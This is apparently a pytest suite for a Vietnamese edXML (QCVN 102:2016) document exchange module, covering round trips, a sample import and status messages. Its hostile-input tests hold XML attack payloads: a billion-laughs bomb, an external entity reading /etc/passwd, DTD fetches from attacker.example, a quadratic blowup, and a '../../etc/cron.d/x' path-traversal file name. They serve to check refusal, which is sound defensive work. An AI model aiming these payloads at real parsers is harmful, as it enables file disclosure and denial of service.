"""Tests of nodes.edxml: edXML (QCVN 102:2016) export and import.

* Round trips export → import keep every field, for every business kind, urgency and
  status code, with Vietnamese text in NFC and NFD (always NFC on the way out).
* A hand-written sample in the national structure (tests/nodes/data/) imports field by
  field, as from another office's document system.
* Hostile and broken input -- malformed XML, billion laughs, external entities, oversize,
  missing elements, bad values -- is refused with its exact RemoteError code, and leaves
  nothing behind in the destination folder.
"""

from __future__ import annotations

import base64
import hashlib
import re
import tracemalloc
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from nodes import edxml
from nodes.edxml import (
    EdxmlExtras,
    OrganInfo,
    ResponseFor,
    StaffInfo,
    TraceEntry,
    doc_type_from_name,
    export_document,
    export_status,
    import_document,
    import_document_from_bytes,
    import_status,
    national_document_id,
    write_document,
)
from protocol.errors import LocalError, RemoteError
from protocol.packet import DocumentMetadata, FileInfo, Reference, Routing, new_packet_id
from protocol.receipts import STATUS

DATA = Path(__file__).resolve().parent / "data"
SAMPLE = DATA / "nghi-quyet-05-NQ-TU.edxml"
STATUS_SAMPLE = DATA / "trang-thai-02-tu-choi.edxml"

#: The attachments the hand-written sample carries (base64 in the file).
SAMPLE_PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n"
    b"% B\xc3\xa1o c\xc3\xa1o qu\xc3\xbd III\n%%EOF\n"
)
SAMPLE_DOCX = (
    "Danh sách đại biểu dự Hội nghị tổng kết công tác văn phòng cấp ủy năm 2025\n" * 20
).encode()

T0 = 1_759_215_912  # 2025-09-30 14:05:12 in Vietnam (UTC+7)
SUBJECT = "Kế hoạch tổ chức Hội nghị tổng kết công tác văn phòng cấp ủy năm 2025"
LONG_SUBJECT = (
    "Về việc triển khai thực hiện Nghị quyết của Ban Chấp hành Trung ương về tiếp tục đổi mới, "
    "nâng cao chất lượng công tác văn phòng cấp ủy, bảo đảm liên thông văn bản điện tử giữa "
    "các cấp ủy từ tỉnh đến cơ sở\n(kèm theo danh sách các chi bộ trực thuộc)"
) * 3

PROVINCE = OrganInfo(
    "000.00.01.H62",
    "Văn phòng Tỉnh ủy",
    in_charge="Tỉnh ủy Vĩnh Phúc",
    address="Số 1 đường Kim Ngọc, phường Vĩnh Phúc",
    email="vanphong@tinhuy.example.vn",
    telephone="0211 3862 000",
    fax="0211 3862 001",
    website="https://tinhuy.example.vn",
)
COMMUNE = OrganInfo("000.00.12.H62", "Đảng ủy xã Yên Lạc")
CELL = OrganInfo("000.00.13.H62", "Chi bộ Trường THCS Tam Hồng")


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


def file_pair(name: str, data: bytes, media: str = "application/pdf") -> tuple[FileInfo, bytes]:
    return FileInfo(name, media, len(data), hashlib.sha256(data).digest()), data


def full_meta(**changes: object) -> DocumentMetadata:
    meta = DocumentMetadata(
        subject=LONG_SUBJECT,
        doc_type="KH",
        number="125",
        notation="KH/TU",
        signer="Nguyễn Văn Hùng",
        issued="2025-09-30",
        place="Vĩnh Phúc",
        notes="Gửi kèm bản giấy qua đường bưu điện.\nLiên hệ: Phòng Hành chính.",
    )
    return replace(meta, **changes)  # type: ignore[arg-type]


FULL_EXTRAS = EdxmlExtras(
    document_id="000.00.01.H62,2025/09/30,125/KH/TU",
    type_code="1",
    type_detail="7",
    type_name="Kế hoạch",
    content="Ban Thường vụ Tỉnh ủy ban hành Kế hoạch tổ chức Hội nghị tổng kết.",
    competence="T/M BAN THƯỜNG VỤ",
    position="Phó Bí thư Thường trực",
    to_places=("Các đảng ủy xã, phường", "Lưu Văn phòng Tỉnh ủy"),
    sphere="Liên thông văn bản quốc gia",
    typer_notation="VT",
    promulgation_amount=30,
    page_amount=4,
    appendixes=("Phụ lục 1: Danh sách đại biểu", "Phụ lục 2: Chương trình hội nghị"),
    response_for=(
        ResponseFor("000.00.12.H62", "12-BC/ĐU", "2025-09-20", "000.00.12.H62,2025/09/20,12/BC/ĐU"),
    ),
    steering_type=1,
    business_reason="Văn bản điện tử mới",
    business_document_id=None,
    paper=1,
    staff=StaffInfo("Phòng Hành chính - Lưu trữ", "Trần Thị Mai", "0912000111", "mai@x.vn"),
)


def sample_text() -> str:
    return SAMPLE.read_text(encoding="utf-8")


def refused(code: str, data: bytes | str, **kwargs: object) -> RemoteError:
    raw = data.encode() if isinstance(data, str) else data
    with pytest.raises(RemoteError) as info:
        import_document(raw, **kwargs)  # type: ignore[arg-type]
    assert info.value.code == code, info.value
    return info.value


# --- round trips ---------------------------------------------------------------------------


def test_round_trip_keeps_every_field(tmp_path: Path) -> None:
    on_disk = tmp_path / "Báo cáo quý III.pdf"
    pdf = b"%PDF-1.7\n" + bytes(range(256)) * 50
    on_disk.write_bytes(pdf)
    docx = "Danh sách đại biểu".encode() * 100
    files: list[tuple[FileInfo, Path | bytes]] = [
        (file_pair("Báo cáo quý III.pdf", pdf)[0], on_disk),
        file_pair("Phụ lục 1 - Danh sách đại biểu.docx", docx, "application/msword"),
        file_pair("Tệp rỗng.txt", b"", "text/plain"),
    ]
    meta = full_meta()
    routing = Routing(
        urgency=3,
        secrecy=0,
        due="2025-10-15",
        reference=Reference("KH", "125", "KH/TU", "2025-09-30"),
        in_reply_to=new_packet_id(),
    )
    packet_id = new_packet_id()
    xml = export_document(
        meta,
        routing,
        PROVINCE,
        [COMMUNE, CELL],
        files,
        packet_id,
        "document",
        extras=FULL_EXTRAS,
        created_at=T0,
    )
    out = tmp_path / "inbox" / "doc"
    doc = import_document(xml, out)

    assert doc.metadata == replace(meta, files=tuple(f for f, _ in files))
    assert doc.routing == routing
    assert doc.kind == "document"
    assert doc.packet_id == packet_id
    assert doc.sender == PROVINCE
    assert doc.recipients == (COMMUNE, CELL)
    assert doc.extras == FULL_EXTRAS
    assert doc.trace == (TraceEntry(PROVINCE.organ_id, T0),)
    assert [p.name for p in doc.files] == [f.name for f, _ in files]
    assert [p.read_bytes() for p in doc.files] == [pdf, docx, b""]
    assert sorted(p.name for p in out.iterdir()) == sorted(f.name for f, _ in files)


@pytest.mark.parametrize(
    ("kind", "code"), [("document", 0), ("recall", 1), ("update", 2), ("replace", 3)]
)
def test_business_kinds(kind: str, code: int) -> None:
    target = None if kind == "document" else new_packet_id()
    extras = EdxmlExtras(
        business_reason=None if kind == "document" else "Thu hồi để sửa sai sót số liệu",
        business_document_id=None if kind == "document" else "000.00.01.H62,2025/09/30,125/KH/TU",
    )
    xml = export_document(
        full_meta(),
        Routing(target=target),
        PROVINCE,
        [COMMUNE],
        [],
        new_packet_id(),
        kind,
        extras=extras,
    )
    assert f"<edXML:BussinessDocType>{code}</edXML:BussinessDocType>".encode() in xml
    doc = import_document_from_bytes(xml)
    assert doc.kind == kind
    assert doc.routing.target == target
    assert doc.extras.business_reason == extras.business_reason
    assert doc.extras.business_document_id == extras.business_document_id


@pytest.mark.parametrize("urgency", range(5))
def test_priority_is_urgency(urgency: int) -> None:
    xml = export_document(
        full_meta(), Routing(urgency=urgency), PROVINCE, [COMMUNE], [], new_packet_id()
    )
    assert f"<edXML:Priority>{urgency}</edXML:Priority>".encode() in xml
    assert import_document_from_bytes(xml).routing.urgency == urgency


def test_nfd_input_comes_out_nfc(tmp_path: Path) -> None:
    data = "Nội dung".encode()
    info = FileInfo(nfd("Báo cáo quý III.pdf"), "application/pdf", len(data), b"")
    info = replace(info, sha256=hashlib.sha256(data).digest())
    meta = DocumentMetadata(
        subject=nfd(SUBJECT),
        doc_type="KH",
        signer=nfd("Nguyễn Thị Thanh Hương"),
        place=nfd("Yên Lạc"),
        notes=nfd("Ghi chú: khẩn"),
    )
    sender = OrganInfo("000.00.12.H62", nfd("Đảng ủy xã Yên Lạc"))
    extras = EdxmlExtras(content=nfd("Nội dung tóm tắt"), to_places=(nfd("Lưu Văn phòng"),))
    xml = export_document(meta, Routing(), sender, [CELL], [(info, data)], extras=extras)
    assert nfd("Yên Lạc").encode() not in xml
    doc = import_document(xml, tmp_path / "out")
    assert doc.metadata.subject == SUBJECT
    assert doc.metadata.signer == "Nguyễn Thị Thanh Hương"
    assert doc.metadata.place == "Yên Lạc"
    assert doc.metadata.notes == "Ghi chú: khẩn"
    assert doc.sender.name == "Đảng ủy xã Yên Lạc"
    assert doc.extras.content == "Nội dung tóm tắt"
    assert doc.extras.to_places == ("Lưu Văn phòng",)
    assert doc.metadata.files[0].name == "Báo cáo quý III.pdf"
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["Báo cáo quý III.pdf"]


def test_nfd_xml_from_another_system_is_normalised(tmp_path: Path) -> None:
    """The whole sample converted to NFD imports exactly as the NFC one."""
    nfc_doc = import_document(SAMPLE)
    nfd_doc = import_document(nfd(sample_text()).encode(), tmp_path / "nfd")
    assert nfd_doc == replace(nfc_doc, files=nfd_doc.files)
    assert all(unicodedata.is_normalized("NFC", p.name) for p in nfd_doc.files)


def test_streaming_export_from_path_and_import_from_path(tmp_path: Path) -> None:
    big = tmp_path / "Tài liệu hội nghị.pdf"
    chunk = hashlib.sha256(b"seed").digest() * 4096
    with big.open("wb") as fh:
        for _ in range(40):  # 5 MiB, not a multiple of the encoder's chunk size
            fh.write(chunk)
        fh.write(b"tail")
    digest = hashlib.sha256(big.read_bytes()).digest()
    info = FileInfo(big.name, "application/pdf", big.stat().st_size, digest)
    xml_path = tmp_path / "out.edxml"
    with xml_path.open("wb") as fh:
        write_document(fh, full_meta(), Routing(), PROVINCE, [COMMUNE], [(info, big)])
    doc = import_document(xml_path, tmp_path / "in")
    assert doc.metadata.files == (info,)
    assert doc.files[0].read_bytes() == big.read_bytes()


def test_export_and_import_memory_stays_bounded(tmp_path: Path) -> None:
    """A 16 MiB attachment goes through with a few MiB of Python allocations at most."""
    big = tmp_path / "Hồ sơ hội nghị.pdf"
    digest = hashlib.sha256()
    with big.open("wb") as fh:
        for i in range(16):
            block = hashlib.sha256(bytes([i])).digest() * 32768
            digest.update(block)
            fh.write(block)
    info = FileInfo(big.name, "application/pdf", 16 << 20, digest.digest())
    xml_path = tmp_path / "big.edxml"
    tracemalloc.start()
    try:
        with xml_path.open("wb") as fh:
            write_document(fh, full_meta(), Routing(), PROVINCE, [COMMUNE], [(info, big)])
        _, export_peak = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        doc = import_document(xml_path, tmp_path / "in")
        _, import_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert doc.metadata.files == (info,)
    assert export_peak < 4 << 20, export_peak
    assert import_peak < 4 << 20, import_peak


def test_defaults_and_fallback_document_id() -> None:
    meta = DocumentMetadata(subject=SUBJECT, doc_type="CV")
    packet_id = new_packet_id()
    xml = export_document(meta, Routing(), PROVINCE, [COMMUNE], [], packet_id, created_at=T0)
    doc = import_document_from_bytes(xml)
    assert doc.extras.type_code == edxml.DEFAULT_TYPE_CODE
    assert doc.extras.type_name == "Công văn"
    assert doc.metadata == meta
    # No number: the document id falls back to the packet id, in the national shape.
    assert doc.extras.document_id == f"{PROVINCE.organ_id},2025/09/30,{_uuid(packet_id)}"
    assert doc.routing.reference is None


def _uuid(packet_id: bytes) -> str:
    import uuid

    return str(uuid.UUID(bytes=packet_id))


def test_classified_documents_need_explicit_consent() -> None:
    routing = Routing(secrecy=1)
    with pytest.raises(LocalError, match="classified"):
        export_document(full_meta(), routing, PROVINCE, [COMMUNE], [])
    xml = export_document(full_meta(), routing, PROVINCE, [COMMUNE], [], allow_classified=True)
    doc = import_document_from_bytes(xml)
    assert doc.routing.secrecy == 1
    assert doc.routing.reference is None


def test_export_refuses_a_file_that_differs_from_its_info(tmp_path: Path) -> None:
    info, _data = file_pair("Báo cáo.pdf", b"original")
    with pytest.raises(LocalError, match="differs"):
        export_document(full_meta(), Routing(), PROVINCE, [COMMUNE], [(info, b"tampered")])


@pytest.mark.parametrize(
    ("change", "match"),
    [
        ({"kind": "bogus"}, "kind"),
        ({"recipients": []}, "recipients"),
        ({"recipients": [COMMUNE, replace(COMMUNE, name="Xã Yên Lạc")]}, "twice"),
        ({"sender": OrganInfo("không hợp lệ")}, "organ"),
        ({"routing": Routing(target=b"\x01" * 16)}, "target"),
        ({"meta": DocumentMetadata(subject="x" * 4001)}, "subject"),
    ],
)
def test_export_refuses_our_own_mistakes(change: dict[str, object], match: str) -> None:
    args: dict[str, object] = {
        "meta": full_meta(),
        "routing": Routing(),
        "sender": PROVINCE,
        "recipients": [COMMUNE],
        "files": [],
        **change,
    }
    with pytest.raises(LocalError, match=match):
        export_document(**args)  # type: ignore[arg-type]


def test_export_refuses_duplicate_file_names() -> None:
    a = file_pair("Báo cáo.pdf", b"a")
    b = file_pair("BÁO CÁO.pdf", b"b")
    with pytest.raises(LocalError, match="twice"):
        export_document(full_meta(), Routing(), PROVINCE, [COMMUNE], [a, b])


# --- the hand-written sample ----------------------------------------------------------------


def test_sample_imports_field_by_field(tmp_path: Path) -> None:
    doc = import_document(SAMPLE, tmp_path / "in")
    meta = doc.metadata
    assert meta.subject == (
        "Về tăng cường sự lãnh đạo của Đảng đối với công tác văn phòng cấp ủy\n"
        "          và chuyển đổi số trong quản lý văn bản giai đoạn 2025 - 2030"
    )
    assert (meta.doc_type, meta.number, meta.notation) == ("NQ", "05", "NQ/TU")
    assert (meta.issued, meta.place, meta.signer) == ("2025-09-30", "Vĩnh Phúc", "Nguyễn Văn Hùng")
    assert meta.notes is None
    assert doc.routing == Routing(
        urgency=1, due="2025-10-15", reference=Reference("NQ", "05", "NQ/TU", "2025-09-30")
    )
    assert doc.kind == "document"
    assert doc.packet_id is None
    assert doc.sender == OrganInfo(
        "000.00.01.H62",
        "Văn phòng Tỉnh ủy",
        in_charge="Tỉnh ủy Vĩnh Phúc",
        address="Số 1 đường Kim Ngọc, phường Vĩnh Phúc",
        email="vanphong@tinhuy.example.vn",
        telephone="0211 3862 xxx",
        website="https://tinhuy.example.vn",
    )
    assert doc.recipients == (
        OrganInfo("000.00.12.H62", "Đảng ủy xã Yên Lạc", in_charge="Đảng bộ xã Yên Lạc"),
        CELL,
    )
    assert doc.extras == EdxmlExtras(
        document_id="000.00.01.H62,2025/09/30,05/NQ/TU",
        type_code="1",
        type_detail="0",
        type_name="Nghị quyết",
        content="Ban Thường vụ Tỉnh ủy ban hành Nghị quyết về tăng cường công tác văn phòng cấp ủy.",
        competence="T/M BAN THƯỜNG VỤ",
        position="Bí thư",
        to_places=(
            "Ban Chấp hành Trung ương Đảng (để báo cáo)",
            "Các đảng ủy xã, phường",
            "Lưu Văn phòng Tỉnh ủy",
        ),
        sphere="Liên thông văn bản quốc gia",
        typer_notation="VT",
        promulgation_amount=30,
        page_amount=4,
        appendixes=("Phụ lục 1: Danh sách đại biểu",),
        response_for=(
            ResponseFor(
                "000.00.12.H62", "12-BC/ĐU", "2025-09-20", "000.00.12.H62,2025/09/20,12/BC/ĐU"
            ),
        ),
        steering_type=1,
        business_reason="Văn bản điện tử mới",
        paper=0,
        staff=StaffInfo(
            "Phòng Hành chính - Lưu trữ", "Trần Thị Mai", "0912 000 111", "mai.tt@tinhuy.example.vn"
        ),
    )
    assert doc.trace == (TraceEntry("000.00.01.H62", T0),)
    docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert meta.files == (
        FileInfo(
            "Báo cáo quý III.pdf",
            "application/pdf",
            len(SAMPLE_PDF),
            hashlib.sha256(SAMPLE_PDF).digest(),
        ),
        FileInfo(
            "Phụ lục 1 - Danh sách đại biểu.docx",
            docx_type,
            len(SAMPLE_DOCX),
            hashlib.sha256(SAMPLE_DOCX).digest(),
        ),
    )
    assert [p.read_bytes() for p in doc.files] == [SAMPLE_PDF, SAMPLE_DOCX]
    assert all(unicodedata.is_normalized("NFC", p.name) for p in doc.files)


def test_sample_as_bare_envelope_and_with_attachments_in_body() -> None:
    """Variants seen in the wild: edXMLEnvelope as root, AttachmentEncoded in the body."""
    text = sample_text()
    _, _, rest = text.partition("  <edXML:edXMLEnvelope")
    envelope, _, tail = rest.partition("  </edXML:edXMLEnvelope>")
    attachments = tail.split("<AttachmentEncoded>")[1].split("</AttachmentEncoded>")[0]
    moved = (
        '<?xml version="1.0"?>\n<edXML:edXMLEnvelope'
        + envelope.replace(
            "</edXML:edXMLBody>",
            '<AttachmentEncoded xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">'
            + attachments
            + "</AttachmentEncoded></edXML:edXMLBody>",
        )
        + "</edXML:edXMLEnvelope>"
    )
    doc = import_document_from_bytes(moved.encode())
    assert [f.name for f in doc.metadata.files] == [
        "Báo cáo quý III.pdf",
        "Phụ lục 1 - Danh sách đại biểu.docx",
    ]
    assert doc.metadata.files == import_document(SAMPLE).metadata.files


def test_sample_status_imports() -> None:
    status = import_status(STATUS_SAMPLE)
    assert status.status == "02"
    assert status.label == "từ chối tiếp nhận"
    assert status.description == (
        "Gửi nhầm đơn vị: văn bản thuộc thẩm quyền Đảng ủy phường Phúc Yên"
    )
    assert status.response_for == ResponseFor(
        "000.00.01.H62", "05-NQ/TU", "2025-09-30", "000.00.01.H62,2025/09/30,05/NQ/TU"
    )
    assert status.sender == COMMUNE
    assert status.at == 1_759_282_200  # 2025-10-01 08:30:00 +07:00
    assert status.staff == StaffInfo("Văn phòng Đảng ủy", "Lê Thị Hoa")
    assert status.packet_id is None


def test_older_soap_status_form() -> None:
    soap = (
        '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/">'
        '<SOAP-ENV:Header><edXML:Status xmlns:edXML="http://schemas.xmlsoap.org/soap/envelope/">'
        "<edXML:ResponseFor><edXML:OrganId>000.00.01.H62</edXML:OrganId>"
        "<edXML:Code>05-NQ/TU</edXML:Code><edXML:PromulgationDate>30/09/2025</edXML:PromulgationDate>"
        "<edXML:DocumentId>abc</edXML:DocumentId></edXML:ResponseFor>"
        "<edXML:From><edXML:OrganId>000.00.12.H62</edXML:OrganId>"
        "<edXML:OrganName>Đảng ủy xã Yên Lạc</edXML:OrganName></edXML:From>"
        "<edXML:StatusCode>6</edXML:StatusCode><edXML:Description>Đã hoàn thành</edXML:Description>"
        "<edXML:Timestamp>01/10/2025 08:30:00</edXML:Timestamp>"
        "</edXML:Status></SOAP-ENV:Header><SOAP-ENV:Body /></SOAP-ENV:Envelope>"
    )
    status = import_status(soap.encode())
    assert (status.status, status.at) == ("06", 1_759_282_200)
    assert status.response_for.promulgation_date == "2025-09-30"


# --- status round trips -----------------------------------------------------------------------


@pytest.mark.parametrize("code", list(STATUS))
def test_status_round_trip(code: str) -> None:
    packet_id = new_packet_id()
    rf = ResponseFor(
        "000.00.01.H62", "125-KH/TU", "2025-09-30", "000.00.01.H62,2025/09/30,125/KH/TU"
    )
    staff = StaffInfo("Văn phòng Đảng ủy", "Lê Thị Hoa", "0912000111", "hoa@x.vn")
    description = f"Lý do: {STATUS[code].vi}" if STATUS[code].reason_required else None
    xml = export_status(
        status=code,
        response_for=rf,
        sender=COMMUNE,
        at=T0,
        description=description,
        staff=staff,
        packet_id=packet_id,
    )
    assert f"<edXML:StatusCode>{code}</edXML:StatusCode>".encode() in xml
    status = import_status(xml)
    assert status == edxml.EdxmlStatus(code, rf, COMMUNE, T0, description, staff, packet_id)


def test_status_export_refuses_unknown_code_and_missing_reason() -> None:
    rf = ResponseFor("000.00.01.H62")
    with pytest.raises(LocalError, match="not one of"):
        export_status(status="07", response_for=rf, sender=COMMUNE)
    with pytest.raises(LocalError, match="description"):
        export_status(status="02", response_for=rf, sender=COMMUNE, description="  ")


def test_status_import_refuses_unknown_code_and_missing_reason() -> None:
    text = STATUS_SAMPLE.read_text(encoding="utf-8")
    with pytest.raises(RemoteError) as info:
        import_status(text.replace(">2</edXML:StatusCode>", ">07</edXML:StatusCode>").encode())
    assert info.value.code == "status_code_unknown"
    no_reason = text.split("<edXML:Description>")[0] + text.split("</edXML:Description>")[1]
    with pytest.raises(RemoteError) as info:
        import_status(no_reason.encode())
    assert info.value.code == "reason_required"
    with pytest.raises(RemoteError) as info:
        import_status(text.replace("edXML:Timestamp", "edXML:Stamp").encode())
    assert info.value.code == "field_missing"


# --- hostile and broken input -----------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE edXML [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML><edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&lol9;</Subject>
</MessageHeader></edXMLHeader></edXMLEnvelope></edXML>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML><edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&xxe;</Subject>
</MessageHeader></edXMLHeader></edXMLEnvelope></edXML>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">
<edXML/>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<edXML/>
"""

QUADRATIC = (
    '<?xml version="1.0"?><!DOCTYPE edXML [<!ENTITY a "'
    + "x" * 50_000
    + '">]><edXML><Subject>'
    + "&a;" * 1000
    + "</Subject></edXML>"
)


@pytest.mark.parametrize(
    "bomb",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, QUADRATIC],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "quadratic"],
)
def test_dtds_and_entities_are_refused(bomb: str, tmp_path: Path) -> None:
    err = refused("field_invalid", bomb)
    assert "DTD" in err.detail
    with pytest.raises(RemoteError) as info:
        import_status(bomb.encode())
    assert info.value.code == "field_invalid"


def test_an_entity_hidden_in_the_sample_is_refused() -> None:
    text = sample_text().replace(
        "<edXML xmlns:xsi", '<!DOCTYPE edXML [<!ENTITY t "Tỉnh ủy">]>\n<edXML xmlns:xsi', 1
    )
    refused("field_invalid", text.replace("Tỉnh ủy Vĩnh Phúc", "&t; Vĩnh Phúc"))


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   ",
        b"<edXML>",
        b"<edXML></edXMLX>",
        b"\xff\xfe\x00<\x00",
        b"not xml at all",
        b'<?xml version="1.0" encoding="x-unknown"?><edXML/>',
        b"<edXML>\x01</edXML>",
        b"<edXML/><edXML/>",
    ],
)
def test_malformed_xml_is_field_invalid(data: bytes) -> None:
    refused("field_invalid", data)


def test_wrong_root_is_field_invalid() -> None:
    err = refused("field_invalid", "<html><body>Trang chủ</body></html>")
    assert "root" in err.detail


def test_oversize_input(tmp_path: Path) -> None:
    data = SAMPLE.read_bytes()
    refused("size_limit_exceeded", data, max_size=len(data) - 1)
    with pytest.raises(RemoteError) as info:
        import_document(SAMPLE, max_size=1024)
    assert info.value.code == "size_limit_exceeded"
    assert import_document(data, max_size=len(data)).metadata.number == "05"


def rename(text: str, tag: str, new: str) -> str:
    """Rename every ``<tag>``/``<tag ...>``/``</tag>`` of ``text`` to ``new``."""
    assert f"<{tag}" in text
    text = re.sub(rf"<{re.escape(tag)}([ />])", rf"<{new}\1", text)
    return text.replace(f"</{tag}>", f"</{new}>")


def drop(text: str, fragment: str) -> str:
    assert fragment in text
    return text.replace(fragment, "", 1)


def _second_content_renamed(text: str) -> str:
    head, _, tail = text.rpartition("<ContentTransferEncoded>")
    return head + "<Other>" + tail.replace("</ContentTransferEncoded>", "</Other>", 1)


@pytest.mark.parametrize(
    ("mutate", "what"),
    [
        (lambda t: rename(t, "edXML:MessageHeader", "edXML:Header2"), "MessageHeader"),
        (lambda t: rename(t, "edXML:edXMLHeader", "edXML:Hdr"), "edXMLHeader"),
        (lambda t: rename(t, "edXML:edXMLEnvelope", "edXML:Env"), "edXMLEnvelope"),
        (lambda t: rename(t, "edXML:Subject", "edXML:Title"), "Subject"),
        (lambda t: rename(t, "edXML:From", "edXML:Sender"), "From"),
        (lambda t: drop(t, "<edXML:OrganId>000.00.01.H62</edXML:OrganId>"), "OrganId"),
        (lambda t: rename(t, "edXML:To", "edXML:Receiver"), "To"),
        (
            lambda t: t.replace(
                "<ContentId>8d2f4a77-0b3e-4e6a-8c1d-2e9f5a6b7c02</ContentId>",
                "<ContentId>ffffffff</ContentId>",
            ),
            "no attachment holds it",
        ),
        (_second_content_renamed, "ContentTransferEncoded"),
        (
            lambda t: drop(t, "<ContentId>5b6e1c0a-7f1d-4c38-9a55-0c1f3d2b9e01</ContentId>"),
            "ContentId",
        ),
        (
            lambda t: drop(
                t, "<edXML:ContentId>cid:5b6e1c0a-7f1d-4c38-9a55-0c1f3d2b9e01</edXML:ContentId>"
            ).replace('xlink:href="cid:5b6e1c0a-7f1d-4c38-9a55-0c1f3d2b9e01" ', ""),
            "ContentId",
        ),
    ],
    ids=[
        "MessageHeader",
        "edXMLHeader",
        "edXMLEnvelope",
        "Subject",
        "From",
        "From-OrganId",
        "To",
        "attachment-for-manifest",
        "ContentTransferEncoded",
        "Attachment-ContentId",
        "Reference-ContentId",
    ],
)
def test_missing_required_elements(mutate: Callable[[str], str], what: str) -> None:
    err = refused("field_missing", mutate(sample_text()))
    assert what in err.detail


def test_empty_subject_is_missing() -> None:
    text = sample_text()
    start = text.index("<edXML:Subject>") + len("<edXML:Subject>")
    end = text.index("</edXML:Subject>")
    refused("field_missing", text[:start] + "   " + text[end:])


@pytest.mark.parametrize(
    ("old", "new", "what"),
    [
        ("<edXML:Priority>1<", "<edXML:Priority>7<", "Priority"),
        ("<edXML:Priority>1<", "<edXML:Priority>-1<", "Priority"),
        ("<edXML:Priority>1<", "<edXML:Priority>khẩn<", "Priority"),
        ("2025/09/30</edXML:PromulgationDate>", "2025/13/40</edXML:PromulgationDate>", "date"),
        ("<edXML:DueDate>2025/10/15<", "<edXML:DueDate>sớm nhất<", "date"),
        ("2025/09/30 14:05:12", "hôm qua", "timestamp"),
        (
            "<edXML:OrganId>000.00.12.H62</edXML:OrganId>",
            "<edXML:OrganId>Xã Yên Lạc</edXML:OrganId>",
            "organ",
        ),
        ("<edXML:BussinessDocType>0<", "<edXML:BussinessDocType>4<", "BussinessDocType"),
        ("<edXML:CodeNumber>05<", "<edXML:CodeNumber>" + "9" * 40 + "<", "CodeNumber"),
        ("<edXML:Subject>", "<edXML:Subject>&#1;", "not well-formed"),
        ("<edXML:Subject>", "<edXML:Subject>Về &#13;&#x85; việc", "control"),
        ("<edXML:Subject>", "<edXML:Subject><b>đậm</b>", "text"),
        (
            "<edXML:SteeringType>1</edXML:SteeringType>",
            "<edXML:SteeringType>1</edXML:SteeringType><edXML:SteeringType>2</edXML:SteeringType>",
            "more than one",
        ),
        (
            "<edXML:AttachmentName>Phụ lục 1 - Danh sách đại biểu.docx</edXML:AttachmentName>",
            "<edXML:AttachmentName>../../etc/cron.d/x</edXML:AttachmentName>",
            "single file name",
        ),
        (
            "<edXML:AttachmentName>Phụ lục 1 - Danh sách đại biểu.docx</edXML:AttachmentName>",
            "<edXML:AttachmentName>" + nfd("BÁO CÁO QUÝ III.PDF") + "</edXML:AttachmentName>",
            "twice",
        ),
        (
            "<ContentId>8d2f4a77-0b3e-4e6a-8c1d-2e9f5a6b7c02</ContentId>",
            "<ContentId>5b6e1c0a-7f1d-4c38-9a55-0c1f3d2b9e01</ContentId>",
            "twice",
        ),
        (
            "<edXML:AttachmentName>Phụ lục 1 - Danh sách đại biểu.docx</edXML:AttachmentName>",
            "<edXML:AttachmentName>" + "Đảng ủy" * 30 + ".pdf</edXML:AttachmentName>",
            "255 bytes",
        ),
        ("<edXML:OrganId>000.00.13.H62<", "<edXML:OrganId>000.00.12.H62<", "twice"),
    ],
)
def test_bad_values_are_field_invalid(old: str, new: str, what: str) -> None:
    text = sample_text()
    assert old in text
    err = refused("field_invalid", text.replace(old, new, 1))
    assert what.lower() in err.detail.lower()


@pytest.mark.parametrize(
    "content",
    ["@@@@", "QUJD=", "QQ==QUJD", "QUJDRA=", "QUJD\u00e0", "QQ=="],
    ids=["alphabet", "length", "padding-inside", "bad-padding", "non-ascii", "trailing"],
)
def test_bad_base64_is_field_invalid(content: str) -> None:
    text = sample_text()
    b2 = text.split("<ContentTransferEncoded>")[2].split("</ContentTransferEncoded>")[0]
    # "QQ==" alone is valid; it is refused only when data follows the padding.
    bad = content if content != "QQ==" else "QQ==" + "<!-- -->" + "QUJD"
    refused("field_invalid", text.replace(b2, bad))


def test_whitespace_inside_base64_is_accepted() -> None:
    text = sample_text()
    b2 = text.split("<ContentTransferEncoded>")[2].split("</ContentTransferEncoded>")[0]
    spaced = "\n".join(b2[i : i + 4] for i in range(0, len(b2), 4))
    doc = import_document_from_bytes(text.replace(b2, spaced).encode())
